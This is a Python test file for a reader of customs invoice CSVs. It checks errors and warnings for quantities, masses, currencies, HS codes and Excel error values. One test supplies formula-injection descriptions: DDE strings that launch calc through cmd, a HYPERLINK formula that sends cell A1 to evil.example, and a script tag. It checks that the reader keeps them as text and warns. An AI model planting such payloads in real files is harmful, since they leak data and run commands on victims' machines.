"""Every problem of a row is recorded on its line, with the row and the column as the supplier wrote it."""

from decimal import Decimal

from adapters.reading import PolarsProductListReader
from domain.goods.problems import RowProblem, Severity
from domain.measures import Money, Quantity

reader = PolarsProductListReader()
HEADER = "Description;Quantity;Unit;Amount, USD;Net weight, kg;Gross weight, kg;Origin;HS code;Packages\n"


def _problems(*rows: str) -> list[list[RowProblem]]:
    listing = reader.read((HEADER + "\n".join(rows) + "\n").encode(), "invoice.csv")
    return [line.problems for line in listing.lines]


def test_a_clean_row_has_no_problems() -> None:
    assert _problems("Office chair;10;pcs;450,00;120;135;Poland;9401300000;10") == [[]]


def test_empty_description() -> None:
    (problems,) = _problems(";10;pcs;450,00;120;135;Poland;;")
    assert problems == [RowProblem(1, "Description", "the description is empty (line 2 of the file)", Severity.ERROR)]


def test_zero_and_negative_quantities() -> None:
    zero, negative = _problems("Chair;0;pcs;1;1;2;PL;;", "Desk;-2;pcs;1;1;2;PL;;")
    assert zero == [
        RowProblem(1, "Quantity", "quantity must be above zero, found 0 (line 2 of the file)", Severity.ERROR)
    ]
    assert negative == [
        RowProblem(2, "Quantity", "quantity must be above zero, found -2 (line 3 of the file)", Severity.ERROR)
    ]


def test_net_mass_above_gross_mass() -> None:
    (problems,) = _problems("Lamp;5;pcs;20;12,5;10;CN;;")
    assert problems == [
        RowProblem(
            1, "Net weight, kg", "net mass 12.5 kg is more than gross mass 10 kg (line 2 of the file)", Severity.ERROR
        )
    ]


def test_unknown_country_names_row_and_column() -> None:
    (problems,) = _problems("Lamp;5;pcs;20;1;2;Atlantis;;")
    assert [(p.row, p.column, p.severity) for p in problems] == [(1, "Origin", Severity.ERROR)]
    assert "'Atlantis' is not a country" in problems[0].reason


def test_a_value_that_is_not_a_number() -> None:
    (problems,) = _problems("Lamp;five;pcs;20;1;2;CN;;")
    assert problems == [RowProblem(1, "Quantity", "'five' is not a number (line 2 of the file)", Severity.ERROR)]


def test_an_excel_error_exported_into_a_csv_is_named_as_such() -> None:
    (problems,) = _problems("Lamp;5;pcs;#DIV/0!;1;2;#N/A;;")
    assert problems == [
        RowProblem(1, "Origin", "#N/A is an Excel error, not a country (line 2 of the file)", Severity.ERROR),
        RowProblem(1, "Amount, USD", "#DIV/0! is an Excel error, not a number (line 2 of the file)", Severity.ERROR),
    ]


def test_rows_holding_only_excel_errors_are_blank_rows_not_lines() -> None:
    """A lookup column copied down past the list leaves rows of #N/A below it: they are no goods lines."""
    rows = "Lamp;5;pcs;20;1;2;CN;;\n;;;;;;#N/A;#N/A;\n;;;;;;#REF!;;\n"
    listing = reader.read((HEADER + rows).encode(), "invoice.csv")
    assert [line.row for line in listing.lines] == [1]
    assert listing.lines[0].problems == []


def test_unknown_unit_is_a_warning_and_the_quantity_is_kept() -> None:
    listing = reader.read((HEADER + "Lamp;5;blister;20;1;2;CN;;\n").encode(), "invoice.csv")
    line = listing.lines[0]
    assert line.quantity == Quantity(Decimal(5), "ZZ")
    assert [(p.column, p.severity) for p in line.problems] == [("Unit", Severity.WARNING)]


def test_packages_must_be_whole() -> None:
    (problems,) = _problems("Lamp;5;pcs;20;1;2;CN;;2,5")
    assert problems == [
        RowProblem(1, "Packages", "packages must be a whole number, found 2.5 (line 2 of the file)", Severity.ERROR)
    ]


def test_a_code_that_lost_its_leading_zero_is_restored_with_a_warning() -> None:
    listing = reader.read((HEADER + "Tea;5;kg;20;5;6;IN;902400000;\n").encode(), "invoice.csv")
    line = listing.lines[0]
    assert line.declared_code == "0902400000"
    assert [p.severity for p in line.problems] == [Severity.WARNING]


def test_a_code_that_is_not_a_code_is_left_out_with_a_warning() -> None:
    listing = reader.read((HEADER + "Tea;5;kg;20;5;6;IN;see spec;\n").encode(), "invoice.csv")
    line = listing.lines[0]
    assert line.declared_code is None
    assert [(p.column, p.severity) for p in line.problems] == [("HS code", Severity.WARNING)]


def test_every_problem_of_a_row_is_kept() -> None:
    (problems,) = _problems(";-1;pcs;abc;9;3;Narnia;;")
    assert {p.column for p in problems} == {"Description", "Quantity", "Amount, USD", "Origin", "Net weight, kg"}
    assert all(p.row == 1 for p in problems)


def test_amount_is_computed_from_unit_price_when_missing() -> None:
    data = b"Description;Qty;Unit price, EUR\nValve DN50;4;12,50\n"
    assert reader.read(data, "inv.csv").lines[0].value == Money(Decimal("50.00"), "EUR")


def test_an_amount_that_is_not_quantity_times_price_is_a_warning() -> None:
    data = b"Description;Qty;Unit price;Amount\nValve DN50;4;12,50;60,00\n"
    (problem,) = reader.read(data, "inv.csv").lines[0].problems
    assert (problem.column, problem.severity) == ("Amount", Severity.WARNING)


def test_masses_in_grams_or_tonnes_are_converted_to_kilograms() -> None:
    data = b"Description;Net weight (g);Gross weight, t\nScrews;2500;0,003\n"
    line = reader.read(data, "inv.csv").lines[0]
    assert line.net_mass is not None and line.net_mass.kilograms == Decimal("2.5")
    assert line.gross_mass is not None and line.gross_mass.kilograms == Decimal("3")


def test_a_missing_currency_and_unit_column_are_file_level_warnings() -> None:
    listing = reader.read(b"Description,Qty,Amount\nPump,2,100\n", "inv.csv")
    assert listing.lines[0].value == Money(Decimal(100), "XXX")
    assert listing.lines[0].quantity == Quantity(Decimal(2), "H87")
    assert {(p.column, p.severity) for p in listing.problems} == {
        ("Amount", Severity.WARNING),
        ("Qty", Severity.WARNING),
    }


def test_a_cell_in_another_currency_than_the_line_is_an_error_naming_the_cell() -> None:
    data = 'Description,Qty,Price,Amount\nDrill,10,$10.00,"$ 100.00"\nHelmet,10,€5,€50\n'.encode()
    listing = reader.read(data, "inv.csv")
    assert listing.currency == "USD"
    assert listing.lines[0].problems == []
    assert listing.lines[0].value == Money(Decimal("100.00"), "USD")
    commonest = "the line's currency is USD, the commonest in the file's amount cells (line 3 of the file)"
    assert listing.lines[1].problems == [
        RowProblem(2, "Amount", f"'€50' is in EUR, but {commonest}", Severity.ERROR),
        RowProblem(2, "Price", f"'€5' is in EUR, but {commonest}", Severity.ERROR),
    ]


def test_a_cell_marked_like_its_column_or_currency_column_is_fine_and_another_is_not() -> None:
    assert _problems("Lamp;5;pcs;$ 1 000,00;1;2;CN;;") == [[]]
    data = b"Description;Amount;Currency\nLamp;$100;EUR\nDesk;100 EUR;EUR\n"
    problems = [line.problems for line in reader.read(data, "inv.csv").lines]
    assert problems == [
        [
            RowProblem(
                1,
                "Amount",
                "'$100' is in USD, but the line's currency is EUR, from column 'Currency' (line 2 of the file)",
                Severity.ERROR,
            )
        ],
        [],
    ]


def test_without_any_other_currency_a_line_takes_the_one_its_cells_show() -> None:
    data = "Description;Amount\nLamp;50\nDesk;€30\n".encode()
    chunks = list(reader.read_chunks(data, "inv.csv", chunk_rows=1))
    assert chunks[1].lines[0].value == Money(Decimal(30), "EUR")
    assert chunks[1].lines[0].problems == []


def test_a_csv_row_problem_names_the_line_of_the_file_as_a_workbook_names_its_row() -> None:
    """/work/qa/12-ru-badrow.csv named its bad quantity 'row 3' only, on line 8 below the title; blank lines and
    line breaks inside quoted fields count as the lines they are."""
    title = "ООО «СтройИмпорт»;;\nИнвойс № 2026/114;;\n;;\n"
    rows = '"Стиральная машина\nBeko 6 кг";40;шт\n\nЦемент М500;20000;кг\nПлитка керамическая;1 2OO;м2\n'
    listing = reader.read((title + "Наименование;Количество;Ед.\n" + rows).encode("cp1251"), "invoice.csv")
    (problem,) = listing.errors
    assert str(problem) == "row 4, column 'Количество': '1 2OO' is not a number (line 9 of the file)"


def test_a_description_that_starts_like_a_spreadsheet_formula_is_kept_as_text_with_a_warning() -> None:
    """/work/qa/06-formula.csv: such text passed silently; the report neutralises it, the broker should know."""
    descriptions = [
        "\"=cmd|'/C calc'!A0\"",
        '"+HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-20 °C chest freezer",
        "Steel screws <script>alert(1)</script>",
    ]
    rows = "".join(f"{text},5,pcs,10,1,2,China\n" for text in descriptions)
    listing = reader.read(("Description,Qty,Unit,Amount USD,Net kg,Gross kg,Country\n" + rows).encode(), "f.csv")
    assert listing.lines[1].description == '+HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert [[str(p) for p in line.problems] for line in listing.lines] == [
        [f"row {n}, column 'Description': starts like a spreadsheet formula; kept as text (line {n + 1} of the file)"]
        for n in (1, 2, 3, 4)
    ] + [[], []]


def test_an_empty_quantity_is_a_warning_naming_the_column() -> None:
    (problems,) = _problems("Refrigerator;;pcs;4920,00;876;948;BY;;12")
    reason = "empty — the goods item this line goes into will carry no quantity in the supplementary unit"
    assert RowProblem(1, "Quantity", f"{reason} (line 2 of the file)", Severity.WARNING) in problems
